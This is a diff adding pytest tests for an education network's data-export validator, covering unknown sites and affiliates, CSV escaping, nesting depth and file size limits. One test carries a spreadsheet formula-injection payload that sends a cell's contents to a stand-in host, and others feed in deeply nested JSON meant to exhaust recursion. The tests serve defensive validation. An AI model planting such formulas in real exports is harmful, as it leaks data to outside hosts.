@@ -502,3 +502,84 @@ def test_network_rollup_with_every_cell_unknown_and_several_years():
 	assert {(r["affiliates_counted"], r["affiliates_total"]) for r in totals} == {(0, 1)}
 	assert rollup_figures(rows, "2023-2024")[(None, "cohort")] == (100, None, None)
 	assert json.dumps(rows)  # plain values only
+
+
+# ---------------------------------------------------------------- names, lines, size and depth
+
+
+SITES = {"Site A", "Site B", "Site C"}
+
+
+def names_problems(content, affiliate_name="Affiliate One", sites=SITES, school_year_known=True):
+	export, lines = nr.read_export(content)
+	return nr.check_names(nr.validate_export(export), lines, affiliate_name, sites, school_year_known)
+
+
+def test_a_file_naming_only_the_affiliates_own_sites_and_known_codes_passes():
+	export = affiliate_export()
+	for content in (nr.to_json(export), nr.to_csv(export)):
+		assert names_problems(content) == []
+
+
+@pytest.mark.parametrize("writer", [nr.to_json, nr.to_csv])
+def test_a_site_that_is_not_the_affiliates_is_refused_with_its_line(writer):
+	export = affiliate_export()
+	for cell in export["rows"]:
+		if cell["site"] == "Site B":
+			cell["site"] = "Jordan Smith 4471 dropped out"
+	content = writer(export)
+	problems = names_problems(content)
+	assert [p.code for p in problems] == ["unknown_site"]  # once, at its first line
+	first = next(i for i, cell in enumerate(export["rows"]) if cell["site"] == "Jordan Smith 4471 dropped out")
+	text_lines = content.splitlines()
+	line = int(problems[0].params["where"].split()[1])
+	if writer is nr.to_csv:
+		assert line == first + 2  # the header is line 1
+		assert "Jordan Smith" in text_lines[line - 1]
+	else:
+		assert text_lines[line - 1].strip() == "{"  # the row's opening brace
+		assert '"site": "Jordan Smith 4471 dropped out"' in "".join(text_lines[line : line + 9])
+		assert "Jordan Smith" not in "".join(text_lines[: line - 1])
+	assert problems[0].message.startswith(f"Line {line} (site Jordan Smith 4471 dropped out, cohort)")
+
+
+def test_an_unknown_affiliate_a_wrong_name_and_an_unknown_year_are_refused_with_their_line():
+	export = affiliate_export()
+	json_text = nr.to_json(export)
+	problems = names_problems(json_text, affiliate_name=None, school_year_known=False)
+	assert [p.code for p in problems] == ["unknown_affiliate", "unknown_school_year"]
+	lines = json_text.splitlines()
+	assert '"affiliate"' in lines[int(problems[0].params["where"].split()[1]) - 1]
+	assert '"school_year"' in lines[int(problems[1].params["where"].split()[1]) - 1]
+	problems = names_problems(nr.to_csv(export), affiliate_name="=HYPERLINK(1)")
+	assert [(p.code, p.params["where"]) for p in problems] == [("wrong_affiliate_name", "Line 2")]
+
+
+def test_formula_like_text_is_escaped_in_the_csv_and_read_back_as_written():
+	export = affiliate_export()
+	export["affiliate"]["name"] = '=HYPERLINK("http://x.example/?"&A1)'
+	for cell in export["rows"]:
+		if cell["site"] == "Site C":
+			cell["site"] = "-Site C"
+	text = nr.to_csv(export)
+	assert "'=HYPERLINK" in text and ",'-Site C," in text
+	assert ",=HYPERLINK" not in text and ",-Site C," not in text
+	assert nr.parse_export(text) == export
+
+
+def test_deeply_nested_json_is_refused_not_a_recursion_error():
+	for content in ("[" * 100_000 + "]" * 100_000, '{"rows": ' + "[" * 50_000 + "]" * 50_000 + "}"):
+		with pytest.raises(nr.ExportError) as caught:
+			nr.parse_export(content)
+		assert [p.code for p in caught.value.problems] == ["too_deep"]
+	export = affiliate_export()
+	export["rows"][0]["site"] = [["x"]]  # deeper than a row may be
+	with pytest.raises(nr.ExportError) as caught:
+		nr.parse_export(json.dumps(export))
+	assert [p.code for p in caught.value.problems] == ["too_deep"]
+
+
+def test_an_oversize_file_is_refused_before_it_is_parsed():
+	with pytest.raises(nr.ExportError) as caught:
+		nr.parse_export(b" " * (nr.MAX_FILE_BYTES + 1))
+	assert [p.code for p in caught.value.problems] == ["too_large"]
